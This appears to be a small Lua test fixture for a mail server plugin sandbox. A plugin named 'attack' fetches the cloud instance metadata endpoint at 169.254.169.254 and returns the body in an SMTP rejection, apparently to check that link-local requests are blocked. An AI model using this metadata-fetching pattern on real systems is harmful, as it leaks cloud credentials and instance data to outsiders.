-- want: link-local
plugin { id = "attack", needs = { http = { "*:*" } },
  hook = { rcpt = { when = { listener = { "attack" } }, timeout = "300ms" } } }

function on.rcpt(r)
  return reject(http.request { url = "http://169.254.169.254/latest/meta-data/" }.body)
end
